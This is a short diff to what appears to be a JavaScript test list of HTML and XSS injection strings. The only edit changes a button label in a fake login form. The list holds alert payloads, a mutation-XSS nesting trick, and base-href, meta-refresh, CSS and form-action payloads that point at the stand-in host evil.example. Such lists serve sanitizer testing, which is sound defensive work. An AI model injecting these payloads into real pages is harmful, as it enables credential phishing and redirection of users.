@@ -24,7 +24,7 @@ const NAMES = [
   `javascript:alert(1)//`,
   `<style>*{background:url(https://evil.example)}</style>`,
   `<base href=https://evil.example/>`,
-  `<form action=https://evil.example><button>Log in`,
+  `<form action=https://evil.example><button>Sign in`,
   `<meta http-equiv=refresh content="0;url=https://evil.example">`,
   `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
   `<!--><img src=x onerror=alert(1)>-->`,
